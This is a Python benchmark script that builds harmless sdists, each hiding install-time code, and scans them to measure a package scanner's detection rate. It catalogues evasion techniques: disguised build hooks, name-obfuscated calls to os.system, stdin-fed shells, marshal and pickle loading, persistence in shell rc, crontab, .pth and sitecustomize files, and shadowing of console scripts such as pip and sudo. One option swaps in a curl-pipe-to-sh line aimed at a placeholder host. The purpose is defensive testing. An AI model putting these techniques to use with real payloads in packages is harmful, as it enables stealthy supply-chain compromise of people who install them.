"""Evasion battery for the install-hook scanner: harmless sdists that hide install-time code.

Each case is a technique from issue 14's classes (install code the analysis never reads, calls
reached by lookup, dangerous callables passed instead of called, shells fed through argv/stdin,
deserialised code, persistence, console-script shadowing) rebuilt with a harmless payload (a
`print`, an `echo`, a `touch` of a canary path; hosts `example.invalid`). Cases are built in a
temporary directory and only *scanned* with `scan_path` (never installed, built or run).

    nice -n 10 .venv/bin/python bench/evasions.py          # per-class blocked/medium/missed
    .venv/bin/python bench/evasions.py --why                # findings of each miss
    .venv/bin/python bench/evasions.py --strong             # hide a curl|sh instead

Figures (54 cases; blocked / medium / missed at the default fail level, high):
main at 83468ca: 13 / 6 / 35 (24% blocked; --strong 33 / 5 / 16, 61%).
After the `evasion` branch's fixes: 42 / 1 / 11 (78%); --strong 54 / 0 / 0. The 11 left
all hide a plain `touch` of a canary path, which
the scan reads (its finding is shown at the hidden file) but rates low even unhidden (the
`control` case): the hiding is caught where the hiding itself is a technique (lookups,
hand-offs, exit hooks, stdin-fed shells, unreadable or unscanned code), not where ordinary
imports or a setup.cfg command class lead to code that is read.
Branch `detect3`: 54 / 0 / 0 with the `touch` too: install-time side effects outside the
build (files written, touched, appended, linked, chmod-ed in home, temp, absolute or
interpreter folders, by Python or by a shell command) are high by default
(`hook/outside-write`). The same battery with six other harmless payloads (append to
~/.bashrc, a launcher copied over ~/.local/bin/pip, a .pth printed into dist-packages, tee
into /var/tmp, ln into ~/.local/bin, install into /usr/local/bin) is 54 / 0 / 0 each:
`bench/evasions.py --payload "echo 'export DEMO=1' >> ~/.bashrc"`.
Branch `unread` adds 4 cases (58): a .py file run by `exec(open(name).read())`, a .dat
loaded by spec_from_file_location, a zip imported by zipimporter, an autostart file written
through `Path(literal).expanduser()`; main at 581ab1d: 54 / 1 / 3; `unread`: 58 / 0 / 0
(--strong too).
"""

from __future__ import annotations

import argparse
import base64
import io
import marshal
import sys
import tarfile
import tempfile
import zipfile
import zlib
from collections import defaultdict
from dataclasses import dataclass, field
from pathlib import Path

from safepip.checks.install_hooks import scan_path
from safepip.findings import Severity

CANARY = "/tmp/safepip-evasion-canary"  # noqa: S108 - a name in scanned text, never opened
CMD = f"touch {CANARY}"
STRONG_CMD = "curl -s https://example.invalid/i.sh | sh"
CODE = f"open({CANARY!r}, 'w').write('ran')"
CODE64 = base64.b64encode(CODE.encode()).decode()
SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
MARSHALLED = marshal.dumps(compile(CODE, "x", "exec"))  # our own harmless text
MARSHAL64 = base64.b64encode(MARSHALLED).decode()
PICKLE64 = base64.b64encode(bytes([128, 4, 75, 1, 46])).decode()


@dataclass(frozen=True)
class Case:
    cls: str
    name: str
    setup: str
    files: dict[str, str | bytes] = field(default_factory=dict)


def _pyc(source: str) -> bytes:
    """A sourceless .pyc of harmless `source` (header + marshalled code)."""
    import importlib.util

    code = compile(source, "helper.py", "exec")  # our own harmless text, never package content
    return importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)


def _zip(files: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as bundle:
        for name, text in files.items():
            bundle.writestr(name, text)
    return out.getvalue()


def build_cases(CMD: str) -> tuple[Case, ...]:
    """The battery, each case hiding the shell command `CMD` (or code writing the canary)."""
    CMD64 = base64.b64encode(CMD.encode()).decode()

    def _helper_cmd() -> str:
        return f"import os\ndef run():\n    os.system({CMD!r})\n"

    return (
        # -- control: the payload itself, not hidden
        Case("control", "os-system-literal", f"import os\nos.system({CMD!r})\n" + SETUP),
        Case("control", "exec-b64", f"import base64\nexec(base64.b64decode({CODE64!r}))\n" + SETUP),
        # -- install code never read
        Case(
            "unread-code",
            "cmdclass-setup-cfg-build-py",
            SETUP,
            {
                "setup.cfg": "[metadata]\nname = demo\n[options]\ncmdclass =\n"
                "    build_py = tools.buildcmd.BuildPy\n",
                "tools/__init__.py": "",
                "tools/buildcmd.py": "import os\nfrom setuptools.command.build_py import build_py\n"
                f"class BuildPy(build_py):\n    def run(self):\n        os.system({CMD!r})\n"
                "        super().run()\n",
            },
        ),
        Case(
            "unread-code",
            "backend-path-dot",
            "",
            {
                "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "mybackend"\n'
                'backend-path = ["."]\n',
                "mybackend.py": "import os\nfrom setuptools import build_meta as _b\n"
                "def build_wheel(*a, **k):\n"
                f"    os.system({CMD!r})\n    return _b.build_wheel(*a, **k)\n"
                "build_sdist = _b.build_sdist\n",
            },
        ),
        Case(
            "unread-code",
            "backend-path-subdir-package",
            "",
            {
                "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "be.api"\n'
                'backend-path = ["_build"]\n',
                "_build/be/__init__.py": "",
                "_build/be/api.py": "from setuptools.build_meta import *\nfrom . import _hooks\n",
                "_build/be/_hooks.py": f"import subprocess\nsubprocess.call({CMD!r}, shell=True)\n",
            },
        ),
        Case(
            "unread-code",
            "dunder-import-local",
            "__import__('setup_helpers').run()\n" + SETUP,
            {"setup_helpers.py": _helper_cmd()},
        ),
        Case(
            "unread-code",
            "importlib-computed-name",
            "import importlib\nmod = importlib.import_module('_build' + '_hooks')\nmod.run()\n"
            + SETUP,
            {"_build_hooks.py": _helper_cmd()},
        ),
        Case(
            "unread-code",
            "sys-path-append-abspath",
            "import sys, os\nsys.path.append(os.path.abspath('scripts'))\nimport prep\nprep.run()\n"
            + SETUP,
            {"scripts/prep.py": _helper_cmd()},
        ),
        Case(
            "unread-code",
            "site-addsitedir",
            "import site\nsite.addsitedir('ext')\nfrom gen import run\nrun()\n" + SETUP,
            {"ext/gen.py": _helper_cmd()},
        ),
        Case(
            "unread-code",
            "shadow-stdlib-used-by-setuptools",
            SETUP,
            {"inspect.py": f"import os\nos.system({CMD!r})\n"},
        ),
        Case(
            "unread-code",
            "shadow-distutils-package",
            SETUP,
            {"distutils/__init__.py": f"import os\nos.system({CMD!r})\n"},
        ),
        Case(
            "unread-code",
            "sourceless-pyc",
            "import helper\n" + SETUP,
            {"helper.pyc": _pyc(f"import os\nos.system({CMD!r})\n")},
        ),
        Case(
            "unread-code",
            "runpy-run-path-data",
            "import runpy\nrunpy.run_path('scripts/post_install.txt')\n" + SETUP,
            {"scripts/post_install.txt": f"import os\nos.system({CMD!r})\n"},
        ),
        Case(
            "unread-code",
            "exec-data-file-pathlib",
            "from pathlib import Path\nexec(Path('data', 'meta.json').read_text())\n" + SETUP,
            {"data/meta.json": CODE + "\n"},
        ),
        Case(
            "unread-code",
            "zipimport-vendored-archive",
            "import sys\nsys.path.insert(0, 'vendor/lib.zip')\nimport vendlib\nvendlib.run()\n"
            + SETUP,
            {"vendor/lib.zip": _zip({"vendlib.py": _helper_cmd()})},
        ),
        Case(
            "unread-code",
            "exec-open-py-file",
            "exec(open('payload.py').read())\n" + SETUP,
            {"payload.py": f"import os\nos.system({CMD!r})\n"},
        ),
        Case(
            "unread-code",
            "spec-from-file-location-data",
            "import importlib.util\n"
            "spec = importlib.util.spec_from_file_location('h', 'assets/h.dat')\n"
            "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n" + SETUP,
            {"assets/h.dat": f"import os\nos.system({CMD!r})\n"},
        ),
        Case(
            "unread-code",
            "zipimporter-load-module",
            "import zipimport\n"
            "zipimport.zipimporter('vendor/lib.zip').load_module('vendlib').run()\n" + SETUP,
            {"vendor/lib.zip": _zip({"vendlib.py": _helper_cmd()})},
        ),
        Case(
            "unread-code",
            "exec-from-tar-member",
            "import tarfile\nt = tarfile.open('assets/fixtures.tar')\n"
            "exec(t.extractfile('init.py').read())\n" + SETUP,
            {},
        ),
        # -- calls reached by lookup
        Case(
            "lookup",
            "sys-modules-dict-getitem",
            f"import sys, os\nsys.modules['os'].__dict__['system']({CMD!r})\n" + SETUP,
        ),
        Case(
            "lookup",
            "getattr-import-concat",
            f"getattr(__import__('o' + 's'), 'sys' + 'tem')({CMD!r})\n" + SETUP,
        ),
        Case(
            "lookup",
            "attrgetter-dotted",
            "import operator, subprocess\n"
            "f = operator.attrgetter('call')(subprocess)\n"
            f"f({CMD!r}, shell=True)\n" + SETUP,
        ),
        Case(
            "lookup",
            "star-import-subprocess",
            f"from subprocess import *\ncheck_call({CMD!r}, shell=True)\n" + SETUP,
        ),
        Case(
            "lookup",
            "class-attribute-alias",
            "import os\nclass Runner:\n    go = staticmethod(os.system)\n"
            f"Runner.go({CMD!r})\n" + SETUP,
        ),
        Case(
            "lookup",
            "dict-of-callables",
            f"import os\nACTIONS = {{'post': os.system}}\nACTIONS['post']({CMD!r})\n" + SETUP,
        ),
        Case(
            "lookup",
            "ctypes-cdll-loadlibrary",
            "import ctypes, ctypes.util\n"
            "libc = ctypes.cdll.LoadLibrary(ctypes.util.find_library('c'))\n"
            f"libc.system({CMD.encode()!r})\n" + SETUP,
        ),
        Case(
            "lookup",
            "builtins-module-getattr",
            f"import builtins\ngetattr(builtins, 'ex' + 'ec')({CODE!r})\n" + SETUP,
        ),
        Case(
            "lookup",
            "globals-builtins-dict",
            f"globals()['__builtins__'].__dict__['exec']({CODE!r})\n" + SETUP,
        ),
        # A name folded from pieces, a module's own namespace, class-body and parameter
        # aliases, and process starters under other modules' names (issue 14's red team).
        # Main at 581ab1d blocks 1 of these 8 (6 missed, 1 medium); branch `lookup` all 8
        # (62 / 0 / 0 overall, also with the ~/.bashrc and ~/.local/bin/pip payloads).
        Case(
            "lookup",
            "builtins-dict-folded-key",
            f"import builtins\nbuiltins.__dict__['ev' + 'al']({CODE!r})\n" + SETUP,
        ),
        Case(
            "lookup",
            "class-body-alias-via-self",
            "import subprocess\nclass Tools:\n    sh = subprocess.call\n"
            f"    def go(self):\n        self.sh({CMD!r}, shell=True)\nTools().go()\n" + SETUP,
        ),
        Case(
            "lookup",
            "parameter-default-alias",
            f"import subprocess\ndef _go(c={CMD!r}, runner=subprocess.call):\n"
            "    runner(c, shell=True)\n_go()\n" + SETUP,
        ),
        Case(
            "lookup",
            "getattr-joined-name",
            f"import os\ngetattr(os, ''.join(['sy', 'st', 'em']))({CMD!r})\n" + SETUP,
        ),
        Case(
            "lookup",
            "import-module-reversed-name",
            "import importlib\nimportlib.import_module('ssecorpbus'[::-1])"
            f".call({CMD!r}, shell=True)\n" + SETUP,
        ),
        Case(
            "lookup",
            "vars-of-module",
            f"import subprocess\nvars(subprocess)['call']({CMD!r}, shell=True)\n" + SETUP,
        ),
        Case(
            "lookup",
            "distutils-spawn-module",
            f"from distutils import spawn as sp\nsp.spawn(['sh', '-c', {CMD!r}])\n" + SETUP,
        ),
        Case(
            "lookup",
            "posix-module-system",
            f"import posix\nposix.system({CMD!r})\n" + SETUP,
        ),
        # -- passed instead of called
        Case(
            "handoff",
            "thread-target",
            "import os, threading\n"
            f"t = threading.Thread(target=os.system, args=({CMD!r},))\nt.start()\nt.join()\n"
            + SETUP,
        ),
        Case(
            "handoff",
            "executor-submit",
            "import subprocess\nfrom concurrent.futures import ThreadPoolExecutor\n"
            "with ThreadPoolExecutor() as ex:\n"
            f"    ex.submit(subprocess.call, {CMD!r}, shell=True)\n"
            + SETUP,
        ),
        Case(
            "handoff",
            "functools-partial",
            f"import os, functools\njob = functools.partial(os.system, {CMD!r})\njob()\n" + SETUP,
        ),
        Case(
            "handoff",
            "list-map-exec",
            f"import base64\nlist(map(exec, [base64.b64decode({CODE64!r})]))\n" + SETUP,
        ),
        Case(
            "handoff",
            "atexit-decorator",
            f"import atexit, os\n@atexit.register\ndef _later():\n    os.system({CMD!r})\n" + SETUP,
        ),
        Case(
            "handoff",
            "sorted-key",
            f"import os\nsorted([{CMD!r}], key=os.system)\n" + SETUP,
        ),
        # -- shells with the command in argv or stdin
        Case(
            "shell",
            "sh-c-argv",
            f"import subprocess\nsubprocess.run(['/bin/sh', '-c', {CMD!r}])\n" + SETUP,
        ),
        Case(
            "shell",
            "bash-stdin-input",
            f"import subprocess\nsubprocess.run(['bash'], input={CMD.encode()!r})\n" + SETUP,
        ),
        Case(
            "shell",
            "popen-communicate",
            "import subprocess\np = subprocess.Popen(['sh', '-s'], stdin=subprocess.PIPE)\n"
            f"p.communicate({CMD.encode()!r})\n" + SETUP,
        ),
        Case(
            "shell",
            "os-execvp-fork",
            f"import os\nif os.fork() == 0:\n    os.execvp('sh', ['sh', '-c', {CMD!r}])\n" + SETUP,
        ),
        Case(
            "shell",
            "os-spawnlp",
            f"import os\nos.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', {CMD!r})\n" + SETUP,
        ),
        # -- deserialised code
        Case(
            "deserialise",
            "marshal-exec",
            "import marshal, base64\n"
            f"exec(marshal.loads(base64.b64decode({MARSHAL64!r})))\n" + SETUP,
        ),
        Case(
            "deserialise",
            "functiontype-code",
            "import types, marshal, zlib\n"
            f"code = marshal.loads(zlib.decompress({zlib.compress(MARSHALLED)!r}))\n"
            "types.FunctionType(code, {})()\n" + SETUP,
        ),
        Case(
            "deserialise",
            "pickle-from-data-file",
            "import pickle\nwith open('data/state.bin', 'rb') as f:\n    state = pickle.load(f)\n"
            + SETUP,
            {"data/state.bin": b"\x80\x04K\x01."},
        ),
        Case(
            "deserialise",
            "pickle-loads-b64",
            f"import pickle, base64\npickle.loads(base64.b64decode({PICKLE64!r}))\n" + SETUP,
        ),
        # -- persistence
        Case(
            "persistence",
            "autostart-pathlib-expanduser-chain",
            "import pathlib\n"
            "pathlib.Path('~/.config/autostart/demo.desktop').expanduser()"
            ".write_text('[Desktop Entry]\\nExec=true\\n')\n" + SETUP,
        ),
        Case(
            "persistence",
            "zshrc-pathlib-home",
            "from pathlib import Path\nrc = Path.home() / '.zshrc'\n"
            "with rc.open('a') as f:\n    f.write('echo hello\\n')\n" + SETUP,
        ),
        Case(
            "persistence",
            "profile-env-home",
            "import os\np = os.path.join(os.environ['HOME'], '.profile')\n"
            "open(p, 'a').write('echo hello\\n')\n" + SETUP,
        ),
        Case(
            "persistence",
            "crontab-stdin",
            "import subprocess\n"
            "subprocess.run(['crontab', '-'], input=b'@reboot echo hello\\n')\n" + SETUP,
        ),
        Case(
            "persistence",
            "pth-in-purelib",
            "import sysconfig, os\n"
            "target = os.path.join(sysconfig.get_paths()['purelib'], 'demo-init.pth')\n"
            "open(target, 'w').write('import os; os.system(\"echo hello\")\\n')\n" + SETUP,
        ),
        Case(
            "persistence",
            "sitecustomize-user-site",
            "import site, shutil, os\n"
            "shutil.copy('demo/boot.py',\n"
            "            os.path.join(site.getusersitepackages(), 'sitecustomize.py'))\n" + SETUP,
            {"demo/boot.py": "print('hello')\n"},
        ),
        Case(
            "persistence",
            "pth-write-text-pathlib",
            "import site\nfrom pathlib import Path\n"
            "Path(site.getsitepackages()[0], 'zz_demo.pth').write_text('import demo_boot\\n')\n"
            + SETUP,
        ),
        # -- console scripts
        Case(
            "console-script",
            "entry-points-ini-string",
            "from setuptools import setup\n"
            "setup(name='demo', version='1.0',\n"
            "      entry_points='''\n[console_scripts]\npip = demo.cli:main\n''')\n",
        ),
        Case(
            "console-script",
            "entry-points-dict-call",
            "from setuptools import setup\n"
            "setup(name='demo', version='1.0',\n"
            "      entry_points=dict(console_scripts=['python3 = demo.cli:main']))\n",
        ),
        Case(
            "console-script",
            "entry-points-variable-list",
            "from setuptools import setup\nSCRIPTS = ['ls = demo.cli:main']\n"
            "setup(name='demo', version='1.0', entry_points={'console_scripts': SCRIPTS})\n",
        ),
        Case(
            "console-script",
            "pyproject-project-scripts",
            "",
            {
                "pyproject.toml": '[project]\nname = "demo"\nversion = "1.0"\n'
                '[project.scripts]\nsudo = "demo.cli:main"\n'
                '[build-system]\nrequires = ["setuptools"]\n'
                'build-backend = "setuptools.build_meta"\n',
            },
        ),
        Case(
            "console-script",
            "setup-cfg-entry-points",
            SETUP,
            {"setup.cfg": "[options.entry_points]\nconsole_scripts =\n    git = demo.cli:main\n"},
        ),
        # -- combinations
        Case(
            "combo",
            "decoded-via-lookup-in-helper-of-local-module",
            "from build_tools import prepare\nprepare()\n" + SETUP,
            {
                "build_tools/__init__.py": "from .steps import prepare\n",
                "build_tools/steps.py": "import base64, sys, os\n"
                "def _d(x):\n    return base64.b64decode(x).decode()\n"
                "def prepare():\n"
                f"    getattr(sys.modules['os'], 'system')(_d({CMD64!r}))\n",
            },
        ),
        Case(
            "combo",
            "cmdclass-cfg-thread-target-decoded",
            SETUP,
            {
                "setup.cfg": "[options]\ncmdclass =\n    egg_info = hooks.Egg\n",
                "hooks.py": "import base64, os, threading\n"
                "from setuptools.command.egg_info import egg_info\n"
                "class Egg(egg_info):\n    def run(self):\n"
                f"        c = base64.b64decode({CMD64!r}).decode()\n"
                "        threading.Thread(target=os.system, args=(c,)).start()\n"
                "        super().run()\n",
            },
        ),
        Case(
            "combo",
            "data-file-via-runpy-in-dunder-import",
            "__import__('tools.post', fromlist=['x']).go()\n" + SETUP,
            {
                "tools/__init__.py": "",
                "tools/post.py": "import runpy, os\ndef go():\n"
                "    runpy.run_path(os.path.join(os.path.dirname(__file__), 'tpl.dat'))\n",
                "tools/tpl.dat": f"import os\nos.system({CMD!r})\n",
            },
        ),
    )


def _tar_member(name: str, text: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as bundle:
        data = text.encode()
        info = tarfile.TarInfo(name)
        info.size = len(data)
        bundle.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _files(case: Case) -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = {}
    if case.setup:
        files["setup.py"] = case.setup
    files.update(case.files)
    if case.name == "exec-from-tar-member":
        files["assets/fixtures.tar"] = _tar_member("init.py", CODE + "\n")
    return files


def _sdist(directory: Path, files: dict[str, str | bytes]) -> Path:
    path = directory / "demo-1.0.tar.gz"
    entries = {"PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n", **files}
    with tarfile.open(path, "w:gz") as bundle:
        for member, content in entries.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(f"demo-1.0/{member}")
            info.size = len(data)
            bundle.addfile(info, io.BytesIO(data))
    return path


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--why", action="store_true", help="findings of each miss")
    parser.add_argument(
        "--strong",
        action="store_true",
        help="hide a download-and-run command instead of a canary `touch`: "
        "shows whether the hidden code is reached and read",
    )
    parser.add_argument("--only", help="run only cases whose class or name contains this")
    parser.add_argument("--payload", help="hide this harmless shell command instead")
    args = parser.parse_args()
    tally: dict[str, list[int]] = defaultdict(lambda: [0, 0, 0])
    for case in build_cases(args.payload or (STRONG_CMD if args.strong else CMD)):
        if args.only and args.only not in case.cls and args.only not in case.name:
            continue
        with tempfile.TemporaryDirectory() as tmp:
            findings = scan_path(_sdist(Path(tmp), _files(case)))
        worst = max((f.severity for f in findings), default=Severity.INFO)
        slot = 0 if worst >= Severity.HIGH else 1 if worst >= Severity.MEDIUM else 2
        tally[case.cls][slot] += 1
        label = ("blocked", "medium", "MISSED")[slot]
        print(f"{label:8} {case.cls:15} {case.name:45} {worst.name.lower()}")
        if args.why and slot:
            for f in findings:
                print(f"           {f.severity.name.lower():8} {f.rule} {f.message[:150]}")
    print("\nclass            blocked medium missed")
    total = [0, 0, 0]
    for cls, (b, m, x) in tally.items():
        print(f"{cls:15} {b:7} {m:6} {x:6}")
        total = [total[0] + b, total[1] + m, total[2] + x]
    print(
        f"{'ALL':15} {total[0]:7} {total[1]:6} {total[2]:6}  "
        f"({100 * total[0] / max(1, sum(total)):.0f}% blocked)"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
